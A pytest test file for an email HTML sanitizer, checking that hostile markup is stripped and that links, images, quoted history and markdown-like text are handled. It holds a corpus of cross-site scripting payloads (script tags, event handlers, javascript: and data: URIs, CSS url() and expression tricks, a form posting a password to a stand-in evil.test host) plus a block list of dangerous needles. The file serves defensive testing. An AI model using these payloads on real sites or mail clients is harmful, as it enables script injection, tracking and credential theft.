"""inbox.sanitize against a hostile corpus: nothing that runs, loads or escapes survives."""

import re

import pytest

from inbox.sanitize import clean_email_html, clean_style, format_text, linkify, plain_to_html, strip_quoted_html


def clean(html, **kw):
    return clean_email_html(html, **kw).html


HOSTILE = {
    "script": "<p>hi</p><script>alert(1)</script>",
    "script_upper": "<SCRIPT SRC=//evil.test/x.js></SCRIPT><p>hi</p>",
    "onerror": '<img src="x" onerror="alert(1)"><p>hi</p>',
    "onclick": '<p onclick="alert(1)" onmouseover="alert(2)">hi</p>',
    "javascript_link": '<a href="javascript:alert(1)">hi</a>',
    "javascript_entity": '<a href="jav&#x09;ascript:alert(1)">hi</a>',
    "javascript_case": '<a href="JaVaScRiPt:alert(1)">hi</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">hi</a>',
    "data_link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">hi</a>',
    "data_img": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">hi',
    "svg_onload": '<svg onload="alert(1)"><circle r="5"/></svg>hi',
    "svg_script": "<svg><script>alert(1)</script></svg>hi",
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>hi',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test">hi',
    "base_href": '<base href="https://evil.test/">hi<a href="/x">x</a>',
    "form": '<form action="https://evil.test/steal"><input name="pw"><button>Go</button></form>hi',
    "iframe": '<iframe src="https://evil.test"></iframe>hi',
    "object": '<object data="https://evil.test/x.swf"></object><embed src="x.swf">hi',
    "link_css": '<link rel="stylesheet" href="https://evil.test/x.css">hi',
    "style_block": "<style>body{background:url(https://evil.test/track)}</style>hi",
    "style_import": "<style>@import 'https://evil.test/x.css';</style>hi",
    "comment_trick": "<!--<img src=x onerror=alert(1)>-->hi",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>hi',
    "template": "<template><img src=x onerror=alert(1)></template>hi",
    "formaction": '<button formaction="javascript:alert(1)">x</button>hi',
    "srcset": '<img srcset="https://evil.test/a.png 1x" src="cid:nope">hi',
    "background_attr": '<table background="https://evil.test/bg.png"><tr><td>hi</td></tr></table>',
    "xlink": '<a xlink:href="javascript:alert(1)">hi</a>',
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_nothing_executable_survives(name):
    out = clean(HOSTILE[name]).lower()
    for needle in (
        "<script",
        "javascript:",
        "vbscript:",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "<svg",
        "<math",
        "<meta",
        "<base",
        "<form",
        "<input",
        "<button",
        "<iframe",
        "<object",
        "<embed",
        "<link",
        "<style",
        "<template",
        "<noscript",
        "data:",
        "evil.test",
        "formaction",
        "srcset",
        "alert(",
    ):
        assert needle not in out, f"{name}: {needle!r} survived in {out!r}"
    assert "hi" in out


@pytest.mark.parametrize(
    "style",
    [
        "position: fixed; top: 0; left: 0; width: 100%; height: 100%",
        "position:absolute;z-index:9999",
        "width: expression(alert(1))",
        "background: url(https://evil.test/track.png)",
        "background-image: url('javascript:alert(1)')",
        "behavior: url(x.htc)",
        "-moz-binding: url(x.xml#xss)",
        "color: red; background-color: u\\72l(https://evil.test)",
        "font-family: 'a'/**/; color: red",
        "list-style-image: url(https://evil.test/x.png)",
        "content: url(https://evil.test/x.png)",
    ],
)
def test_styles_cannot_escape_or_load(style):
    out = clean(f'<p style="{style}">hi</p>')
    assert "position" not in out and "url" not in out and "expression" not in out and "z-index" not in out
    assert "evil" not in out and "binding" not in out and "behavior" not in out


def test_safe_styles_are_kept():
    out = clean(
        '<p style="color: #b00; font-weight: bold; text-align: center; margin: 0 4px; '
        'background-color: rgb(255, 240, 200)">hi</p>'
    )
    assert (
        'style="color: #b00; font-weight: bold; text-align: center; margin: 0 4px; background-color: rgb(255, 240, 200)"'
        in out
    )
    assert clean_style("display: flex; display: block") == "display: block"


def test_remote_images_blocked_until_allowed_and_counted():
    html = '<p>a<img src="https://tracker.test/p.gif"><img src="//cdn.test/x.png"><img src="http://x.test/y.png"></p>'
    blocked = clean_email_html(html)
    assert blocked.remote_images == 3
    assert "tracker.test" not in blocked.html and "cdn.test" not in blocked.html and "x.test" not in blocked.html
    shown = clean_email_html(html, allow_remote=True)
    assert 'src="https://tracker.test/p.gif"' in shown.html and 'src="http://x.test/y.png"' in shown.html


def test_cid_images_rewritten_to_the_items_attachment():
    urls = {"logo@x": "/attachments/7/cid/TOKEN"}
    out = clean('<img src="cid:logo@x"><img src="CID:<unknown@x>">', cid_url=urls.get)
    assert '<img src="/attachments/7/cid/TOKEN">' in out
    assert "unknown" not in out and "cid:" not in out.lower()


def test_links_open_outside_the_frame_without_referrer():
    out = clean('<a href="https://shop.test/o/1">order</a>')
    assert 'href="https://shop.test/o/1"' in out and 'target="_blank"' in out and "noreferrer" in out


def test_ids_are_prefixed_so_they_cannot_clash():
    assert 'id="m-main"' in clean('<div id="main">x</div>')


def test_quoted_history_stripped_only_when_asked():
    html = (
        '<div>New answer</div><div class="gmail_quote">On Mon X wrote:<blockquote type="cite">old '
        "<b>stuff</b><br>more</blockquote></div><p>after</p>"
    )
    full = clean_email_html(html)
    assert "old" in full.html and not full.quotes_removed
    folded = clean_email_html(html, strip_quotes=True)
    assert folded.quotes_removed and "New answer" in folded.html and "old" not in folded.html
    assert "<p>after</p>" in folded.html


def test_outlook_history_marker_drops_the_rest():
    html = '<p>Yes, thanks</p><div id="appendonsend"></div><hr><div id="divRplyFwdMsg">From: us</div><p>old</p>'
    out = clean_email_html(html, strip_quotes=True)
    assert out.quotes_removed and "Yes, thanks" in out.html and "old" not in out.html and "From: us" not in out.html


def test_quote_stripping_never_leaves_an_empty_message():
    out = clean_email_html("<blockquote>only quote</blockquote>", strip_quotes=True)
    assert "only quote" in out.html and not out.quotes_removed


def test_strip_keeps_entities_and_void_tags():
    assert (
        strip_quoted_html("<p>a &amp; b<br>c &#169;</p><blockquote>x<br>y</blockquote>z")
        == "<p>a &amp; b<br>c &#169;</p>z"
    )


def test_plain_text_is_escaped_and_linkified():
    out = plain_to_html(
        "<script>alert(1)</script> see https://shop.test/a?b=1&c=2, mail me@x.test\n"
        "javascript:alert(1) (https://x.test/p_(1))"
    )
    assert "<script>" not in out and "&lt;script&gt;" in out
    assert '<a href="https://shop.test/a?b=1&amp;c=2"' in out and out.count("</a>") == 3
    assert 'href="mailto:me@x.test"' in out and 'href="https://x.test/p_(1)"' in out
    assert 'href="javascript' not in out
    assert "\n" in out  # line breaks are kept (shown with pre-wrap)


def test_linkify_leaves_trailing_punctuation_outside():
    assert linkify("go to www.shop.test.") == (
        'go to <a href="http://www.shop.test" target="_blank" rel="noopener noreferrer nofollow">www.shop.test</a>.'
    )


def test_format_text_markdownish():
    out = format_text(
        "Hi **Carla**,\n\nthanks *a lot* for [the link](https://x.test/a_b).\n- one\n- two\n\n1. a\n2. b\n> q"
    )
    assert "<strong>Carla</strong>" in out and "<em>a lot</em>" in out
    assert '<a href="https://x.test/a_b"' in out
    assert "<ul><li>one</li><li>two</li></ul>" in out and "<ol><li>a</li><li>b</li></ol>" in out
    assert "<blockquote>q</blockquote>" in out


def test_format_text_never_emits_markup_from_input():
    out = format_text("<img src=x onerror=alert(1)> [x](javascript:alert(1)) **<b>bold</b>** snake_case_word")
    assert "<img" not in out and "onerror=" not in out.replace("&lt;img src=x onerror=alert(1)&gt;", "")
    assert 'href="javascript' not in out and "<b>" not in out
    assert "snake_case_word" in out
    assert not re.search(r"<(?!/?(p|br|strong|em|code|a|ul|ol|li|blockquote)\b)", out)


def test_format_text_keeps_line_breaks():
    assert format_text("line one\nline two") == "<p>line one<br>\nline two</p>"
